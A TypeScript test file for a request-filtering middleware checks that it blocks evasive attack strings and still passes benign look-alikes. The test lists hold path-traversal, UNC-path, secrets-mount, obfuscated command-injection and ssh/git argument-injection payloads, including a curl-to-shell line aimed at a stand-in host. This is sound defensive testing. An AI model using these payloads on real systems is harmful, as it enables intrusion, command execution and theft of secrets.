/**
 * False negatives found in review, end to end through createShield(...).check() (the pre-screen by character
 * classes and word groups included, so a rule no value can reach fails here): `..././` traversal filter evasion,
 * UNC paths to another host (`\\attacker.example\share`, `file://\\evil\share`), the Docker/Kubernetes secrets
 * mount, backslash-escaped command words after a separator or in a substitution (`;w\ho\am\i`), glob-spelled
 * command paths (`/???/??t /???/p??s??`), ssh `-oProxyCommand=` and git `--upload-pack=` / `-c core.sshCommand=`
 * argument injection, `file://host/share` URLs (Windows opens them as `\\host\share`) and the long-path spelling
 * `\\?\UNC\host\share`. Each has near-miss benign values that must keep passing; some attacks and their near
 * misses also go through a real Express server.
 */
import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RunningApp } from '../../helpers/adapters.js';
import { checkBody, startExpress } from './review-helpers.js';

/** The shield of the review: JSON bodies only. */
const PAYLOAD = { contentTypes: ['application/json'] };

/** `[value, allowed]` for each value as `{"q": value}`; one `toEqual` shows every wrong answer at once. */
async function verdictsOf(values: readonly string[]): Promise<[string, boolean][]> {
  const out: [string, boolean][] = [];
  for (const v of values) out.push([v, (await checkBody({ q: v }, PAYLOAD)).allowed]);
  return out;
}

/** Each value paired with `allowed`, the expectation `verdictsOf` is compared with. */
function all(values: readonly string[], allowed: boolean): [string, boolean][] {
  return values.map((v) => [v, allowed]);
}

const TRAVERSAL_EVASION = ['..././..././etc/passwd', '....//....//etc/passwd', '..././..././..././windows/win.ini', '...\\.\\...\\.\\boot.ini'];
const TRAVERSAL_NEAR_MISSES = ['wait.../ ok', 'compare a...b/c', 'hmm... ./run.sh works', 'C:\\Users\\me\\file.txt'];

const UNC = [
  '\\\\attacker.example\\share\\x',
  'file://\\\\evil\\share',
  '\\\\10.0.0.5\\c$\\windows\\win.ini',
  '\\\\10.0.0.5\\share\\x',
  '  \\\\evil-host\\public',
  'file:\\\\\\\\evil\\share\\a.txt',
];
const UNC_NEAR_MISSES = [
  'map the drive \\\\fileserver\\public for the team',
  'C:\\Users\\ho\\am\\notes.txt',
  '\\n\\nThanks',
  'regex \\\\d+ matches digits',
  'file://localhost-docs',
];

const SECRETS = ['/run/secrets/db_password', '/run/secrets/kubernetes.io/serviceaccount/token', 'file=/run/secrets/api_key'];
const SECRETS_NEAR_MISSES = ['/run/app', 'see /run/app/docs', 'the compose file mounts them under /run/secrets for the app', '/runbook/secrets-rotation'];

const BACKSLASH_COMMANDS = [';w\\ho\\am\\i', 'x; w\\ho\\am\\i', '8.8.8.8 | c\\at /etc/passwd', '$(w\\ho\\am\\i)', '`un\\ame -a`', 'a && i\\d'];
const BACKSLASH_NEAR_MISSES = ['C:\\Users\\ho\\am\\notes.txt', 'w\\ho\\am\\i', 'C:\\Users\\ho\\am', 'see D:\\data\\w\\ho; D:\\logs\\old'];

const GLOBS = [';/???/??t /???/p??s??', '/???/??t /???/??ss??', '| /???/?s -la', '& /b??/c?t /e??/p?ss??', '/???/???/??oami', '; /usr/bin/c?t /etc/hosts'];
const GLOB_NEAR_MISSES = ['what??? ok!!', '/**/*.js', '/api/*', '/search?q=1', '/docs/faq?', '/api/v1?', 'src/**/test?.ts', 'is /usr/bin/env? yes'];

const SSH_OPTIONS = ['-oProxyCommand=id', 'x -oProxyCommand=id', '-o ProxyCommand=curl evil.example|sh', '-oLocalCommand=id', '"-oProxyCommand=touch /tmp/x"'];
const SSH_NEAR_MISSES = ['use the -o flag', 'ssh -o StrictHostKeyChecking=no host', '-o output.txt', 'set ProxyCommand in your ssh config file', 'foo-oProxyCommand=x'];

const GIT_OPTIONS = [
  '--upload-pack=touch /tmp/pwn',
  '--upload-pack=id',
  '-c core.sshCommand=id',
  '--config=core.sshCommand=id',
  'https://github.com/x/y.git --upload-pack=id',
  '--receive-pack=id',
  '"--upload-pack=id"',
  '--config core.sshCommand=id',
];
const GIT_NEAR_MISSES = [
  'use --upload-pack to set the path',
  '-u id',
  'set core.sshCommand in your git config',
  'foo--upload-pack=x',
  'https://github.com/org/upload-pack.git',
  'price-c core.x=1',
];

const FILE_HOST = ['file://evil.example/share/x', 'file://10.0.0.5/c$/x', '  file://evil-host/public/a.txt', 'FILE://Attacker.Example/share', 'file:////evil.example/share/x'];
const FILE_HOST_NEAR_MISSES = [
  'file:///home/me/x',
  'file:///C:/Users/me/notes.txt',
  'file://C:/Users/me/notes.txt',
  'see file://server/share in the docs',
  'file://localhost-docs',
];

const LONG_UNC = ['\\\\?\\UNC\\attacker.example\\share\\x', '\\\\?\\unc\\evil\\share', '\\\\.\\UNC\\10.0.0.5\\c$\\x', '  \\\\?\\UNC\\evil-host\\public'];
const LONG_UNC_NEAR_MISSES = ['\\\\?\\C:\\Users\\me\\file.txt', '\\\\.\\pipe\\name', 'the prefix \\\\?\\UNC\\ is for long paths', '\\\\?\\UNC'];

describe('review gaps: attacks refused through createShield().check()', () => {
  it('refuses ..././ traversal (stripping ../ once leaves ../); passes dots in prose', async () => {
    expect(await verdictsOf(TRAVERSAL_EVASION)).toEqual(all(TRAVERSAL_EVASION, false));
    expect(await verdictsOf(TRAVERSAL_NEAR_MISSES)).toEqual(all(TRAVERSAL_NEAR_MISSES, true));
  });

  it('refuses a UNC path to any host, named or numbered; passes backslashes that are not one', async () => {
    expect(await verdictsOf(UNC)).toEqual(all(UNC, false));
    expect(await verdictsOf(UNC_NEAR_MISSES)).toEqual(all(UNC_NEAR_MISSES, true));
  });

  it('refuses the secrets mount /run/secrets as a probe; passes other /run paths and prose', async () => {
    expect(await verdictsOf(SECRETS)).toEqual(all(SECRETS, false));
    expect(await verdictsOf(SECRETS_NEAR_MISSES)).toEqual(all(SECRETS_NEAR_MISSES, true));
  });

  it('refuses a backslash-escaped command after a separator or in a substitution; passes Windows paths', async () => {
    expect(await verdictsOf(BACKSLASH_COMMANDS)).toEqual(all(BACKSLASH_COMMANDS, false));
    expect(await verdictsOf(BACKSLASH_NEAR_MISSES)).toEqual(all(BACKSLASH_NEAR_MISSES, true));
  });

  it('refuses glob-spelled command paths; passes question marks in prose, URL queries and file globs', async () => {
    expect(await verdictsOf(GLOBS)).toEqual(all(GLOBS, false));
    expect(await verdictsOf(GLOB_NEAR_MISSES)).toEqual(all(GLOB_NEAR_MISSES, true));
  });

  it('refuses ssh -oProxyCommand= argument injection; passes -o in prose and other ssh options', async () => {
    expect(await verdictsOf(SSH_OPTIONS)).toEqual(all(SSH_OPTIONS, false));
    expect(await verdictsOf(SSH_NEAR_MISSES)).toEqual(all(SSH_NEAR_MISSES, true));
  });

  it('refuses git --upload-pack= and -c core.sshCommand= argument injection; passes the options named in prose', async () => {
    expect(await verdictsOf(GIT_OPTIONS)).toEqual(all(GIT_OPTIONS, false));
    expect(await verdictsOf(GIT_NEAR_MISSES)).toEqual(all(GIT_NEAR_MISSES, true));
  });

  it('refuses a file:// URL to another host (a UNC path to Windows); passes local file URLs', async () => {
    expect(await verdictsOf(FILE_HOST)).toEqual(all(FILE_HOST, false));
    expect(await verdictsOf(FILE_HOST_NEAR_MISSES)).toEqual(all(FILE_HOST_NEAR_MISSES, true));
  });

  it('refuses the long-path spelling \\\\?\\UNC\\host\\share; passes other long and device paths', async () => {
    expect(await verdictsOf(LONG_UNC)).toEqual(all(LONG_UNC, false));
    expect(await verdictsOf(LONG_UNC_NEAR_MISSES)).toEqual(all(LONG_UNC_NEAR_MISSES, true));
  });

  it('names the rule that refuses each family', async () => {
    const detail = async (v: string): Promise<string> => (await checkBody({ q: v }, PAYLOAD)).detail;
    expect(await detail('..././..././etc/passwd')).toContain('traversal-dot-dot-segment@body.q');
    expect(await detail('\\\\attacker.example\\share\\x')).toContain('traversal-windows-system-path@body.q');
    expect(await detail('/run/secrets/db_password')).toContain('traversal-system-path@body.q');
    expect(await detail(';w\\ho\\am\\i')).toContain('cmdi-chained-command@body.q');
    expect(await detail('/???/??t /???/??ss??')).toContain('cmdi-command-line@body.q');
    expect(await detail('-oProxyCommand=id')).toContain('cmdi-command-line@body.q');
    expect(await detail('--upload-pack=touch /tmp/pwn')).toContain('cmdi-command-line@body.q');
    expect(await detail('-c core.sshCommand=id')).toContain('cmdi-command-line@body.q');
    expect(await detail('file://evil.example/share/x')).toContain('traversal-windows-system-path@body.q');
    expect(await detail('\\\\?\\UNC\\attacker.example\\share\\x')).toContain('traversal-windows-system-path@body.q');
    // Unchanged: a file URL to localhost is refused by the SSRF rule, as before.
    expect(await detail('file://localhost/etc/passwd')).toContain('ssrf-internal-host@body.q');
  });
});

describe('review gaps through Express', () => {
  let app: RunningApp;
  beforeAll(async () => {
    ({ app } = await startExpress());
  });
  afterAll(async () => {
    await app.close();
  });
  const post = (body: object) => request(app.server).post('/api/v1/items').set('user-agent', 'okhttp/4.12.0').send(body);
  const get = (query: Record<string, string>) => request(app.server).get('/api/v1/items').query(query).set('user-agent', 'okhttp/4.12.0');

  it('refuses a UNC path in a JSON body and in the query; passes a Windows user path', async () => {
    expect((await post({ avatar: '\\\\attacker.example\\share\\x' })).status).toBe(403);
    expect((await get({ avatar: 'file://\\\\evil\\share' })).status).toBe(403);
    expect((await post({ avatar: 'C:\\Users\\ho\\am\\notes.txt' })).status).toBe(200);
  });

  it('refuses ;w\\ho\\am\\i and -oProxyCommand=id in a JSON body; passes the near misses', async () => {
    expect((await post({ host: ';w\\ho\\am\\i' })).status).toBe(403);
    expect((await post({ host: '-oProxyCommand=id' })).status).toBe(403);
    expect((await post({ host: '/???/??t /???/??ss??' })).status).toBe(403);
    expect((await post({ note: 'use the -o flag' })).status).toBe(200);
    expect((await post({ note: 'what??? ok!!' })).status).toBe(200);
  });

  it('refuses --upload-pack=, file://host/share and \\\\?\\UNC\\ in a JSON body; passes the near misses', async () => {
    expect((await post({ repo: '--upload-pack=touch /tmp/pwn' })).status).toBe(403);
    expect((await post({ avatar: 'file://evil.example/share/x' })).status).toBe(403);
    expect((await post({ avatar: '\\\\?\\UNC\\attacker.example\\share\\x' })).status).toBe(403);
    expect((await post({ note: 'use --upload-pack to set the path' })).status).toBe(200);
    expect((await post({ avatar: 'file:///home/me/x' })).status).toBe(200);
  });
});
